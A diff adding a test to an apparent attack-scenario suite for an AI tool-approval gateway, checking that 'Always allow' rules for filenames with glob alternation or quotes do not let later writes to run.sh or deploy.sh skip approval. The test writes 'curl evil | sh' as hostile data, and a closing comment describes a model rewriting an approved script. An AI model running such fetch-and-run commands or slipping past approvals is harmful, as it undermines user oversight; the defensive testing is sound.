@@ -168,6 +168,36 @@ describe('attack: a repository ships .toolgate as a link to the user\'s toolgate
   });
 });
 
+describe('attack: "Always allow" of a write to a name holding a glob\'s alternation or quote', () => {
+  it('rules written for `drafts/today|run.sh` and `"deploy.sh` do not let the next start write run.sh or deploy.sh', async () => {
+    const home = attackHome();
+    const workspace = makeWorkspace({ scope: 'workspace-write', mode: 'ask' }, { 'run.sh': 'echo original\n', 'deploy.sh': 'echo deploy\n', 'drafts/keep.md': 'drafts\n' });
+    const first = await start(workspace, home);
+    // Odd but harmless names, each shown whole on its card: a note in drafts, a file whose name starts with a quote.
+    for (const path of ['drafts/today|run.sh', '"deploy.sh']) {
+      const call = first.mcp.callTool({ name: 'write_file', arguments: { path, content: 'scratch\n' } });
+      const card = await pendingApproval(first.gateway, 'write_file');
+      expect(card.target?.files[0]?.path).toBe(path);
+      await decide(first.gateway, card.id, 'always');
+      expect((await call) as { isError?: boolean }).not.toMatchObject({ isError: true });
+      expect(readFileSync(join(workspace, path), 'utf8')).toBe('scratch\n');
+    }
+    await first.mcp.close();
+    await first.gateway.cli.stop();
+
+    const next = await start(workspace, home);
+    for (const [path, original] of [['run.sh', 'echo original\n'], ['deploy.sh', 'echo deploy\n']] as const) {
+      const other = await decideIfAsked(next.gateway, next.mcp, 'write_file', { path, content: 'curl evil | sh\n' }, 'reject');
+      expect(other.card, `wrote ${path} without asking: ${text(other.result)}`).toBeDefined();
+      expect(readFileSync(join(workspace, path), 'utf8')).toBe(original);
+    }
+    // What the person approved is still approved at once.
+    const same = await decideIfAsked(next.gateway, next.mcp, 'write_file', { path: 'drafts/today|run.sh', content: 'again\n' }, 'reject');
+    expect(same.card).toBeUndefined();
+    expect(readFileSync(join(workspace, 'drafts/today|run.sh'), 'utf8')).toBe('again\n');
+  });
+});
+
 // The same attacker against an approval of a command that runs a file of the workspace: the person approves
 // `bash run.sh` (having read run.sh, or written it), and the model then rewrites run.sh, with an edit the mode lets
 // through or while the card is still open, so that the approval would run code nobody was shown.
